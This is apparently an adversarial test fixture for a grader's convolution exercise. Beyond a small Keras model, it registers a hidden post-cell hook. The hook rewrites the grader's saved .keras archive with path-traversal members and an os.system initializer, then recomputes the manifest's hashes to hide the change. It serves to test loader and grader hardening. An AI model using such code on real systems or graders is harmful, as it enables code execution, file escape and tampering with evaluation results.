# grader: exercise=conv-dims
# old (ca38eb9): Keras 3.15 refused the config and skipped the ../ members (nothing written outside): "could not be loaded", no refusal
"""Adversarial (escape): the model file, rewritten as a crafted .keras archive.

After the probe, a hook rebuilds the archive with members named ../../../../tmp/grader-victim-*
and assets/../../../../tmp/grader-victim-* (path traversal, should the loader extract them)
and a config whose initializer names `os.system` (a module outside Keras), and keeps the probe's
manifest, if any, in step with the new bytes.
"""

# %%
import hashlib
import json
import os
import zipfile

from keras.layers import Conv2D
from keras.models import Sequential

model = Sequential([Conv2D(16, 2, strides=2, padding="valid", activation="relu", input_shape=(200, 200, 1))])
conv_params = 80
conv_height = 100


# %%
def _facts_files():
    """Every facts.json under the writable bind mount named `artifacts` (see /proc/self/mountinfo)."""
    with open("/proc/self/mountinfo") as mounts:
        tops = [line.split()[4] for line in mounts if line.split()[4].endswith("/artifacts")]
    return [os.path.join(folder, "facts.json") for top in tops for folder, _, files in os.walk(top) if "facts.json" in files]


def _refingerprint(node, blob):
    """Keep a manifest, if the probe writes one, in step with the new bytes."""
    if isinstance(node, dict):
        for key, value in node.items():
            if key in ("bytes", "size") and isinstance(value, int):
                node[key] = len(blob)
            elif key == "sha256":
                node[key] = hashlib.sha256(blob).hexdigest()
            else:
                _refingerprint(value, blob)


def _after_probe(result):
    for path in _facts_files():
        folder = os.path.dirname(path)
        with open(path) as handle:
            facts = json.load(handle)
        for entry in facts["models"]:
            if not entry.get("file"):
                continue
            target = os.path.join(folder, entry["file"])
            with zipfile.ZipFile(target) as archive:
                members = {name: archive.read(name) for name in archive.namelist()}
            config = json.loads(members["config.json"])
            layer = config["config"]["layers"][-1]["config"]
            layer["kernel_initializer"] = {"module": "os", "class_name": "system", "config": "touch /tmp/grader-victim-os-system", "registered_name": None}
            members["config.json"] = json.dumps(config).encode()
            with zipfile.ZipFile(target, "w") as archive:
                for name, data in members.items():
                    archive.writestr(name, data)
                archive.writestr("../../../../tmp/grader-victim-traversal", b"escaped")
                archive.writestr("assets/../../../../tmp/grader-victim-asset", b"escaped")
            with open(target, "rb") as handle:
                _refingerprint(entry, handle.read())
        with open(path, "w") as handle:
            json.dump(facts, handle)


get_ipython().events.register("post_run_cell", _after_probe)
